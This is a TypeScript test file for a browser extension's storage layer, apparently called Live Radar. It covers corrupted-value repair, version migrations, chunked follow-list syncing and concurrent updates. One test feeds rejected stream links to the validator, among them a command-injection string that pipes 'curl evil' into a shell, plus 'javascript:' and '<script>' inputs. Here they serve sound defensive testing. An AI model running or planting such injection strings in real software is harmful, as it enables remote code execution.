import { beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { browser } from 'wxt/browser';
import { cacheItem, changedCacheHandles, keyStateItem, MAX_PINS, pinsItem, settingsItem } from '@/lib/platform/storage';
import { DEFAULT_SETTINGS } from '@/lib/domain/defaults';
import { defineItem } from '@/lib/platform/stored-item';
import { followSlots, presentKeys } from '@/lib/platform/follow-slots';
import { readFollows, setAsideCount, updateFollows } from '@/lib/platform/follows';
import type { Follow } from '@/lib/domain/model';
import { anotherBrowser } from './memory-area';

beforeEach(() => fakeBrowser.reset());

describe('stored items', () => {
  it('reset only the damaged setting of a corrupted value, and leave every other value alone', async () => {
    const chosen = { ...DEFAULT_SETTINGS, checkVisitedProfiles: false, notifications: false };
    await browser.storage.sync.set({ [settingsItem.key]: { v: settingsItem.version, data: { ...chosen, pollMinutes: 'often' } } });
    await keyStateItem.set({ state: 'valid' });
    // What the user turned off stays off; the damaged interval is back to its default.
    expect(await settingsItem.get()).toEqual(chosen);
    expect((await keyStateItem.get()).state).toBe('valid');
    // The repair is written back, so the next read is clean.
    expect((await browser.storage.sync.get(settingsItem.key))[settingsItem.key]).toEqual({ v: settingsItem.version, data: chosen });
    // Nothing readable at all: the fallback.
    await browser.storage.sync.set({ [settingsItem.key]: { v: settingsItem.version, data: 'lol' } });
    expect(await settingsItem.get()).toEqual(DEFAULT_SETTINGS);
  });

  it('keep the first 200 valid pins of a synced list past the cap or with bad entries, instead of wiping them', async () => {
    const pins = Array.from({ length: 201 }, (_, i) => `pin${i}`);
    await browser.storage.sync.set({ [pinsItem.key]: { v: pinsItem.version, data: ['<script>', ...pins.slice(0, 3), 'pin0', ...pins.slice(3)] } });
    expect(await pinsItem.get()).toEqual(pins.slice(0, MAX_PINS));
    expect((await browser.storage.sync.get(pinsItem.key))[pinsItem.key]).toEqual({ v: pinsItem.version, data: pins.slice(0, MAX_PINS) });
  });

  it('treat garbage that is not even an envelope as corrupted', async () => {
    await browser.storage.local.set({ [cacheItem('sunny').key]: 'lol' });
    expect(await cacheItem('sunny').get()).toBeNull();
  });

  it('never hand out a stored stream link that is not https, and hand out the normalised form of one that is', async () => {
    const variant = (hls: string) => ({ quality: 'hd', label: null, codec: 'h264', source: 'primary', resolution: null, bitrate: null, hls, flv: null, cmaf: null });
    const entry = (hls: string) => ({
      handle: 'sunny',
      lookup: { status: 'live', profile: { handle: 'sunny', displayName: null, avatarUrl: null, verified: false, followerCount: null }, live: { roomId: 'r', title: null, startedAt: null, viewerCount: null, variants: [variant(hls)] } },
      fetchedAt: 1, error: null, errorAt: null, lastLiveAt: 1,
    });
    const stored = async (hls: string) => {
      await browser.storage.local.set({ [cacheItem('sunny').key]: { v: cacheItem('sunny').version, data: entry(hls) } });
      const read = await cacheItem('sunny').get();
      return read?.lookup?.status === 'live' ? read.lookup.live.variants[0]?.hls : read;
    };
    expect(await stored('HTTPS://Pull.Example/a/../live.m3u8')).toBe('https://pull.example/live.m3u8');
    for (const bad of ['http://pull.example/live.m3u8', 'javascript:alert(1)', 'https://pull.example/live.m3u8\ncurl evil|sh']) {
      expect(await stored(bad), bad).toBeNull();
    }
  });

  const v2 = defineItem({
    area: 'local',
    key: 'example',
    schema: z.object({ minutes: z.number() }),
    fallback: { minutes: 10 },
    version: 2,
    migrations: {
      1: (old) => {
        const parsed = z.object({ seconds: z.number() }).parse(old);
        return { minutes: parsed.seconds / 60 };
      },
    },
  });

  it('migrate an older version and store the result', async () => {
    await browser.storage.local.set({ example: { v: 1, data: { seconds: 300 } } });
    expect(await v2.get()).toEqual({ minutes: 5 });
    expect((await browser.storage.local.get('example')).example).toEqual({ v: 2, data: { minutes: 5 } });
  });

  it('keep the old data in place when a migration fails', async () => {
    await browser.storage.local.set({ example: { v: 1, data: { unexpected: true } } });
    expect(await v2.get()).toEqual({ minutes: 10 });
    expect((await browser.storage.local.get('example')).example).toEqual({ v: 1, data: { unexpected: true } });
  });

  it('keep the old data in place when a migration fails, also when asked to update it', async () => {
    await browser.storage.local.set({ example: { v: 1, data: { unexpected: true } } });
    await expect(v2.update((value) => ({ minutes: value.minutes + 1 }))).rejects.toThrow(/migration from version 1 failed/);
    expect((await browser.storage.local.get('example')).example).toEqual({ v: 1, data: { unexpected: true } });
  });

  it('never write over a value a newer build saved: what it can read of it is used, changes refused with a reason', async () => {
    // Another browser runs a newer build: the settings this one knows (visited profiles off) still hold here.
    const newer = { v: settingsItem.version + 1, data: { pollMinutes: 5, checkVisitedProfiles: false, brandNewOption: true } };
    await browser.storage.sync.set({ [settingsItem.key]: newer });
    expect(await settingsItem.get()).toEqual({ ...DEFAULT_SETTINGS, pollMinutes: 5, checkVisitedProfiles: false });
    await expect(settingsItem.set({ ...DEFAULT_SETTINGS, pollMinutes: 30 })).rejects.toThrow(/newer version of Live Radar/);
    await expect(settingsItem.update((s) => ({ ...s, pollMinutes: 30 }))).rejects.toThrow(/newer version/);
    expect((await browser.storage.sync.get(settingsItem.key))[settingsItem.key]).toEqual(newer);
  });

  it('refuse to write a value that breaks its schema', async () => {
    await expect(settingsItem.set({ ...DEFAULT_SETTINGS, pollMinutes: 0.1 })).rejects.toThrow();
  });
});

const many = (n: number): Follow[] =>
  Array.from({ length: n }, (_, i) => ({ handle: `creator_number_${i}`, addedAt: 1_700_000_000_000 + i, notify: i % 2 === 0 }));

/** A list as another browser synced it: this one has no copy of its own yet, only what sync holds. */
const seed = (follows: Follow[]) => updateFollows(() => follows, anotherBrowser());

describe('storage changes, read through the items', () => {
  it('belong to an item only in its own area, and give its new value as validated as a read', async () => {
    const reports: [Record<string, { newValue?: unknown }>, string][] = [];
    browser.storage.onChanged.addListener((changes, area) => void reports.push([changes, area]));
    await settingsItem.set({ ...DEFAULT_SETTINGS, notifications: false });
    await browser.storage.local.set({ [settingsItem.key]: 'a local value under the same key' });
    await browser.storage.sync.set({ [settingsItem.key]: { v: settingsItem.version, data: { ...DEFAULT_SETTINGS, pollMinutes: 'often' } } });
    await cacheItem('sunny').set(null);
    const [synced, local, damaged, cached] = reports;
    expect(settingsItem.newValueIn(...synced!)?.notifications).toBe(false);
    expect(settingsItem.changedIn(...local!)).toBe(false);
    expect(settingsItem.newValueIn(...local!)).toBeUndefined();
    // A damaged value is repaired as a read would: the bad interval back to its default, nothing else touched.
    expect(settingsItem.newValueIn(...damaged!)?.pollMinutes).toBe(DEFAULT_SETTINGS.pollMinutes);
    expect(changedCacheHandles(...cached!)).toEqual(['sunny']);
    expect(changedCacheHandles(cached![0], 'sync')).toEqual([]);
    expect(pinsItem.changedIn(...synced!)).toBe(false);
  });
});

describe('follow list', () => {
  it('round-trips 500 follows through sync in chunks under the per-item quota', async () => {
    await seed(many(500));
    const stored = await browser.storage.sync.get(null);
    const chunkKeys = presentKeys(stored, followSlots.chunks);
    expect(chunkKeys.length).toBeGreaterThan(1);
    for (const key of chunkKeys) expect(JSON.stringify(stored[key]).length + key.length).toBeLessThan(8192);
    expect(await readFollows()).toEqual(many(500));
  });

  it('removes chunks left over when the list shrinks', async () => {
    await seed(many(500));
    await seed(many(3));
    expect(presentKeys(await browser.storage.sync.get(null), followSlots.chunks)).toEqual([followSlots.chunks.at(0).key]);
    expect(await readFollows()).toEqual(many(3));
  });

  it('falls back to local storage when sync refuses the write, and says so', async () => {
    const sync = {
      ...browser.storage.sync,
      get: browser.storage.sync.get.bind(browser.storage.sync),
      remove: browser.storage.sync.remove.bind(browser.storage.sync),
      set: async () => {
        throw new Error('QUOTA_BYTES quota exceeded');
      },
    } as typeof browser.storage.sync;
    const stores = { sync, local: browser.storage.local };
    expect(await updateFollows(() => many(10), stores)).toMatchObject({ inLocal: true, syncPending: false });
    expect(await readFollows(stores)).toEqual(many(10));
  });

  it('drops only the corrupted entries of a damaged chunk', async () => {
    await seed(many(3));
    const { key } = followSlots.chunks.at(0);
    const { [key]: chunk } = await browser.storage.sync.get(key);
    (chunk as unknown[])[1] = { evil: '<script>' };
    await browser.storage.sync.set({ [key]: chunk });
    expect((await readFollows()).map((f) => f.handle)).toEqual(['creator_number_0', 'creator_number_2']);
  });

  it('rebuilds the list from its chunks when the index is damaged, and the next write loses nothing', async () => {
    await seed(many(400));
    await browser.storage.sync.set({ [followSlots.index.key]: 'garbage' });
    expect(await readFollows()).toEqual(many(400));
    await updateFollows((list) => [...list, { handle: 'one.more', addedAt: 1, notify: true }]);
    expect(await readFollows()).toHaveLength(401);
  });

  it('keeps unreadable entries aside instead of writing over them, and counts them for the popup', async () => {
    await seed(many(3));
    const { key } = followSlots.chunks.at(0);
    const { [key]: chunk } = await browser.storage.sync.get(key);
    await browser.storage.sync.set({ [key]: [...(chunk as unknown[]), { evil: '<script>' }, 'nonsense'] });
    await updateFollows((list) => list.filter((f) => f.handle !== 'creator_number_1'));
    expect((await readFollows()).map((f) => f.handle)).toEqual(['creator_number_0', 'creator_number_2']);
    expect(await setAsideCount()).toBe(2);
    expect((await browser.storage.local.get(followSlots.setAside.key))[followSlots.setAside.key]).toEqual([{ evil: '<script>' }, 'nonsense']);
  });

  it('writes its index in the bytes earlier builds read: the version beside the count of chunks', async () => {
    await seed(many(400));
    const { [followSlots.index.key]: index } = await browser.storage.sync.get(followSlots.index.key);
    const chunks = presentKeys(await browser.storage.sync.get(null), followSlots.chunks);
    expect(chunks.length).toBeGreaterThan(1);
    expect(index).toEqual({ v: 1, chunks: chunks.length });
  });

  it('never writes over a list a newer build saved', async () => {
    await seed(many(3));
    const { key } = followSlots.index;
    await browser.storage.sync.set({ [key]: { v: 2, chunks: 1, shards: 'new' } });
    await expect(updateFollows((list) => [...list, { handle: 'x', addedAt: 1, notify: true }])).rejects.toThrow(/newer version/);
    expect((await browser.storage.sync.get(key))[key]).toEqual({ v: 2, chunks: 1, shards: 'new' });
    expect((await readFollows()).length).toBe(3);
  });

  it('applies 50 concurrent changes one after another: every one is stored', async () => {
    await Promise.all(
      Array.from({ length: 50 }, (_, i) => updateFollows((list) => [...list, { handle: `racer${i}`, addedAt: i, notify: true }])),
    );
    expect((await readFollows()).map((f) => f.handle).sort()).toEqual(Array.from({ length: 50 }, (_, i) => `racer${i}`).sort());
  });
});

describe('concurrent updates', () => {
  it('apply one after another, so none is lost', async () => {
    const { pollStateItem } = await import('@/lib/platform/storage');
    const { EMPTY_POLL_STATE } = await import('@/lib/domain/defaults');
    await pollStateItem.set({ ...EMPTY_POLL_STATE, pending: ['a', 'b', 'c', 'd'] });
    await Promise.all(['a', 'b', 'c'].map((h) => pollStateItem.update((s) => ({ ...s, pending: s.pending.filter((x) => x !== h) }))));
    expect((await pollStateItem.get()).pending).toEqual(['d']);
  });
});
